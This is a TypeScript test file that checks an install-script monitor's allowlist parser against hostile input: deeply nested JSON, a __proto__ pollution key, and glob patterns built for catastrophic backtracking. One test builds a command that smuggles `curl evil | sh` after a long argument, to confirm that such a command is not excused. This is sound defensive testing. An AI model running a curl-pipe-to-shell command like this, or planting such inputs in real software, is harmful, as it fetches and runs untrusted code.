// Hostile allowlist files (issue 6): deep nesting, prototype keys, patterns
// shaped for catastrophic backtracking. Each is one clear AllowlistError
// (exit 2) naming file and field, fast; and the globs that are accepted stay
// fast on the longest command lines and paths a script can make us match.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Allowlist, AllowlistError, globProblem, readAllowlistFile, validateAllowlist } from '../../src/allowlist/allowlist.js';
import { RuleContext } from '../../src/rules/context.js';
import { finding, HOST } from '../rules/helpers.js';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'gi-hostile-allowlist-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function loadError(name: string, text: string): { error: AllowlistError; ms: number; path: string } {
  const path = join(dir, name);
  writeFileSync(path, text);
  const started = performance.now();
  try {
    readAllowlistFile(path);
  } catch (error) {
    expect(error).toBeInstanceOf(AllowlistError);
    return { error: error as AllowlistError, ms: performance.now() - started, path };
  }
  throw new Error(`${name} was accepted`);
}

const entry = (fields: string): string => `{"version":1,"entries":[{"package":"pkg",${fields}}]}`;

describe('hostile allowlist files: one clear error, exit 2', () => {
  it('1,000,000 levels of nesting at the top: refused in well under the time a stack overflow takes', () => {
    const { error, ms, path } = loadError('deep-top.json', `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`);
    expect(error.message).toBe(`${path}: (top level): Invalid input: expected object, received array`);
    expect(error.exitCode).toBe(2);
    expect(ms).toBeLessThan(5_000);
  });

  it('deep nesting inside an entry names the field', () => {
    const { error, path } = loadError('deep-entry.json', entry(`"paths":${'['.repeat(500_000)}${']'.repeat(500_000)}`));
    expect(error.message).toBe(`${path}: entries[0].paths[0]: Invalid input: expected string, received array`);
  });

  it('a __proto__ key is an unknown key, and pollutes nothing', () => {
    const { error, path } = loadError('proto.json', entry('"paths":["a"],"__proto__":{"polluted":true}'));
    expect(error.message).toBe(`${path}: entries[0]: Unrecognized key: "__proto__"`);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each([
    ['paths', '"~/.cache/@(a|b)*/**"', /^entries\[0\]\.paths\[0\]: extglob patterns/],
    ['paths', '"~/x/*(a)b"', /^entries\[0\]\.paths\[0\]: extglob patterns/],
    ['paths', '"~/.cache/{a,b}/**"', /^entries\[0\]\.paths\[0\]: braces \{a,b\} are not supported/],
    ['paths', '"/tmp/*a*a*b"', /^entries\[0\]\.paths\[0\]: at most 2 \* between two slashes/],
    ['commands', '"/bin/sh -c *a*a*b"', /^entries\[0\]\.commands\[0\]: at most 2 \* in a command glob/],
    ['egress', '"*.a*.b*.example.com"', /^entries\[0\]\.egress\[0\]: at most 2 \* in a name/],
  ])('a ReDoS-shaped %s glob %s is refused, naming it', (field, glob, message) => {
    const { error, ms, path } = loadError(`redos-${field}.json`, entry(`"${field}":[${glob}]`));
    expect(error.message.startsWith(`${path}: `)).toBe(true);
    expect(error.message.slice(path.length + 2)).toMatch(message);
    expect(error.message).toContain(JSON.parse(glob) as string);
    expect(error.message).not.toContain('\n');
    expect(ms).toBeLessThan(1_000);
  });

  it('the package glob is checked too', () => {
    expect(() => validateAllowlist({ version: 1, entries: [{ package: '@(a|b)', paths: ['x'] }] }, 'f.json')).toThrow(/^f\.json: entries\[0\]\.package: extglob/);
  });

  it('globProblem: what is accepted', () => {
    for (const ok of ['~/.cache/puppeteer/**', '$TMP/cc*', '/bin/sh -c *node-pre-gyp*', '**/**/**/x', '~/.cache/swc-native-*/**', 'a?b']) expect(globProblem(ok, ok.startsWith('/bin') ? 'command' : 'path')).toBeUndefined();
  });
});

describe('accepted globs stay fast on what a script controls', () => {
  const ctx = new RuleContext(HOST);
  const proc = (args: string[]) => finding({ signal: 'process', rule: 'GI-PROC-001', evidence: { executable: '/bin/sh', args, pid: 101 }, package: { name: 'pkg', version: '1.0.0', path: '/proj/node_modules/pkg' } });
  const allow = (commands: string[]) => new Allowlist([{ source: 'a.json', entries: validateAllowlist({ version: 1, entries: [{ package: 'pkg', commands }] }, 'a.json') }]);

  it('two stars against a 4,000-character command line shaped to backtrack: well under a second', () => {
    const a = allow(['/bin/sh -c *a*b']);
    const started = performance.now();
    expect(a.match(proc(['/bin/sh', '-c', 'a'.repeat(4_000)]), ctx)).toBeUndefined();
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('a command line over 4,096 characters is never excused by a glob (only by an exact name)', () => {
    const a = allow(['/bin/sh -c pkg-config*']);
    expect(a.match(proc(['/bin/sh', '-c', 'pkg-config --version']), ctx)).toBeDefined();
    expect(a.match(proc(['/bin/sh', '-c', `pkg-config ${'x'.repeat(5_000)}; curl evil | sh`]), ctx)).toBeUndefined();
  });
});
